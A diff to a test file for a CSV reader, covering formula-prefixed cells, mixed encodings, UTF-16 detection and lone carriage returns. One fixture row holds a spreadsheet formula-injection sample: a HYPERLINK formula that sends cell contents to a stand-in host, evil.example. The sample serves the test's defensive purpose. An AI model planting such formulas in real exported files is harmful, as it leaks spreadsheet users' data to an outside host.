@@ -148,13 +148,53 @@ describe('readCsv on the fixtures', () => {
     ]);
   });
 
-  it("formula-cells.csv: removes our ' guard before = + - @ and nothing else", async () => {
+  it("formula-cells.csv: not a report of ours, so every ' stays as written", async () => {
     const { records } = await readFixture('formula-cells.csv');
     expect(lineAndCells(records)).toEqual([
-      [2, ['u1101', 'Sara Cole', 'sara.cole@example.com', '+44 20 7946 0001', '=Cole & Partners']],
+      [2, ['u1101', 'Sara Cole', 'sara.cole@example.com', "'+44 20 7946 0001", "'=Cole & Partners"]],
       [3, ['u1102', '=HYPERLINK("http://evil.example/?x="&A1)', 'tim.ray@example.com', '+44 20 7946 0002', '@SUM(1+1)']],
-      [4, ['u1103', '-Una Quill', 'una.quill@example.com', '-', '@quill']],
+      [4, ['u1103', "'-Una Quill", 'una.quill@example.com', "'-", "'@quill"]],
       [5, ['u1104', "Vic O'Neil", "'vic@example.com", "'0800 123", "'x'"]],
+    ]);
+  });
+
+  it("apostrophe-user-id.csv: a user_id starting with '= is kept byte for byte", async () => {
+    const { records } = await readFixture('apostrophe-user-id.csv');
+    expect(lineAndCells(records)).toEqual([
+      [2, ["'=7", 'Gil Hart', 'gil.hart@example.com', '', 'Hart Ltd']],
+      [3, ["'+44", 'Ida Ives', 'ida.ives@example.com', "'+44 20 7946 0003", "'=Ives & Co"]],
+    ]);
+  });
+
+  it('utf8-with-1252-row.csv: UTF-8; the one Windows-1252 row is rejected, the others keep their accents', async () => {
+    const { reader, records } = await readFixture('utf8-with-1252-row.csv');
+    expect(reader.headers).toEqual(HEADERS);
+    expect(records.map((record) => [record.kind, record.line, record.cells[1], record.cells[4]])).toEqual([
+      ['record', 2, 'José Müller', 'Müller GmbH'],
+      ['record', 3, 'Ann Lee', 'Lee & Co'],
+      ['malformed', 4, 'Lea Roux', 'Caf\\xE9 Roux'],
+      ['record', 5, 'Zoë Ng', 'Ng Ltd'],
+    ]);
+    expect(records[2]).toMatchObject({ code: 'invalid_encoding', reason: expect.stringContaining('"Caf\\xE9 Roux"') });
+  });
+
+  it('utf16le-no-bom.csv: UTF-16 LE recognised by its NUL bytes', async () => {
+    const { reader, records } = await readFixture('utf16le-no-bom.csv');
+    expect(reader.headers).toEqual(HEADERS);
+    expect(lineAndCells(records)).toEqual([
+      [2, ['u1901', 'Ünal Yılmaz', 'unal.yilmaz@example.com', '', 'Koç Holding']],
+      [3, ['u1902', 'Ann Lee', 'ann.lee@example.com', '', 'Lee & Co']],
+    ]);
+  });
+
+  it('lone-cr.csv: a lone CR ends a record outside quotes and is data inside them; lines count it either way', async () => {
+    const { records } = await readFixture('lone-cr.csv');
+    expect(records.map((record) => [record.kind, record.line, record.cells[0], record.cells[4]])).toEqual([
+      ['record', 2, 'u2101', 'Lee & Co'],
+      ['record', 3, 'u2102', 'Chan AB'],
+      ['record', 4, 'u2103', 'Dove Inc'],
+      ['record', 5, 'u2104', 'Eck\rWorks'],
+      ['record', 7, 'u2105', 'Fox SA'],
     ]);
   });
 
@@ -218,6 +258,7 @@ describe('readCsv on the fixtures', () => {
     'bom-utf8.csv', 'crlf.csv', 'semicolon-windows-1252.csv', 'excel-sep-line.csv', 'utf16le-bom.csv',
     'utf16be-bom.csv', 'quoted-newlines.csv', 'ragged-rows.csv', 'broken-quote.csv', 'unclosed-quote.csv',
     'formula-cells.csv', 'report-columns.csv', 'blank-lines.csv', 'empty-rows.csv', 'pipe-delimited.csv',
+    'utf8-with-1252-row.csv', 'utf16le-no-bom.csv', 'lone-cr.csv', 'apostrophe-user-id.csv',
   ];
 
   it.each(ALL)('%s: the same records whatever the chunk boundaries (1, 2, 3 and 5 bytes)', async (name) => {
